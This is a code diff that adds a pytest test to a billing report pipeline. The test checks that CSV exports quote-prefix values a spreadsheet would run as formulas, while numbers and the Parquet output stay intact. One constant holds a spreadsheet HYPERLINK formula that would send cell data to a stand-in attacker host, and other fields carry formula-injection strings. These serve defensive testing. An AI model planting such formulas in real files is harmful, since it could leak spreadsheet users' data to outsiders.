@@ -200,6 +200,52 @@ def test_report_exports_whole_tables_exactly(report: dict[str, object]) -> None:
     assert any(",1234567.890000000000," in line for line in csv)
 
 
+HOSTILE_DESCRIPTION = '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")'
+
+
+def test_csv_exports_keep_formulas_out_and_numbers_in(
+        billing_env: dict[str, Path], tmp_path: Path) -> None:
+    """A description, a reason and an actor that a spreadsheet would run as formulas are
+    prefixed with a quote in the CSV; negative amounts stay numbers; Parquet keeps the text."""
+    import csv
+
+    from pipelines.cli import main
+    from tests.support.finance_report import seed_warehouse
+
+    seed_warehouse(billing_env["warehouse"])
+    with connect_writer(str(billing_env["warehouse"])) as con:
+        con.execute("""
+            UPDATE billing.corrections
+            SET description = $description, reason = '+1 free month', decided_by = '@ops',
+                run_id = chr(9) || '=1+1', line_id = '-line'
+            WHERE correction_id = 'corr_a'""", {"description": HOSTILE_DESCRIPTION})
+        con.execute("""
+            UPDATE finance.receivables_aging SET customer_id = '-2+3', amount_due = -234.25
+            WHERE invoice_id = 'inv_b'""")
+    out = tmp_path / "out"
+    main(["report", "--month", MONTH, "--out", str(out)])
+
+    with (out / "billing_corrections.csv").open(encoding="utf-8", newline="") as handle:
+        rows = {row["correction_id"]: row for row in csv.DictReader(handle)}
+    hostile = rows["corr_a"]
+    assert hostile["description"] == "'" + HOSTILE_DESCRIPTION
+    assert (hostile["reason"], hostile["decided_by"], hostile["run_id"], hostile["line_id"]) == (
+        "'+1 free month", "'@ops", "'\t=1+1", "'-line")
+    assert Decimal(hostile["delta"]) == Decimal("-10")        # a negative amount stays a number
+    assert hostile["delta"].startswith("-")
+    assert rows["corr_b"]["description"] == "API calls"       # other text untouched
+    assert list(rows) == pl.read_parquet(out / "billing_corrections.parquet")[
+        "correction_id"].to_list()                            # the same rows in the same order
+    parquet = pl.read_parquet(out / "billing_corrections.parquet").filter(
+        pl.col("correction_id") == "corr_a")
+    assert parquet["description"].to_list() == [HOSTILE_DESCRIPTION]
+    # every CSV export does the same
+    with (out / "finance_receivables_aging.csv").open(encoding="utf-8", newline="") as handle:
+        aging = {row["invoice_id"]: row for row in csv.DictReader(handle)}
+    assert (aging["inv_b"]["customer_id"], aging["inv_b"]["amount_due"]) == (
+        "'-2+3", "-234.250000000000")
+    assert aging["inv_old"]["aging_bucket"] == "90+"
+
 def test_report_on_an_empty_warehouse_says_nothing_to_report(
         billing_env: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
         capsys: pytest.CaptureFixture[str]) -> None:
